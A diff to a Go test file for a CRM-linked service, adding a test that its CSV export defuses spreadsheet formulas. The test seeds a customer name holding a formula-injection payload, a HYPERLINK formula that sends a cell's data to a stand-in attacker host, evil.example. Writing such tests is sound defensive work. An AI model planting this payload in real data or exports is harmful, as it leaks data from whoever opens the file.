@@ -3,6 +3,7 @@ package main
 import (
 	"bytes"
 	"encoding/json"
+	"io"
 	"net/http"
 	"net/http/httptest"
 	"os"
@@ -10,6 +11,7 @@ import (
 	"regexp"
 	"strings"
 	"testing"
+	"time"
 
 	"github.com/idv-project/idv/agi/agitest"
 	"github.com/idv-project/idv/crm/demo"
@@ -171,5 +173,26 @@ func TestFactorsAndCodesNeverLeak(t *testing.T) {
 				}
 			}
 		}
+	}
+}
+
+// TestExportDefusesFormulas: a customer name from the CRM that a spreadsheet would run
+// as a formula (=HYPERLINK(…), @SUM…) is exported as text in the interactions CSV.
+func TestExportDefusesFormulas(t *testing.T) {
+	const evil = `=HYPERLINK("http://evil.example/?d="&A2,"Click me")`
+	customers := append([]demo.Customer{{ID: "777002", Name: evil, Phones: []string{"+81355551235"}}}, demo.Seed...)
+	crm := httptest.NewServer(demo.New(customers).Handler())
+	t.Cleanup(crm.Close)
+	h := newHarness(t, crm.URL)
+	h.call(agitest.Caller{ANI: "+81355551235"})
+	today := time.Now().Format("2006-01-02")
+	resp, err := http.Get("http://" + h.svc.WebAddr().String() + "/api/interactions/export?format=csv&from=" + today + "&to=" + today)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer resp.Body.Close()
+	body, _ := io.ReadAll(resp.Body)
+	if !strings.Contains(string(body), `'=HYPERLINK(`) || strings.Contains(string(body), `,"=HYPERLINK(`) || strings.Contains(string(body), ",=HYPERLINK(") {
+		t.Errorf("the export does not defuse the formula:\n%s", body)
 	}
 }
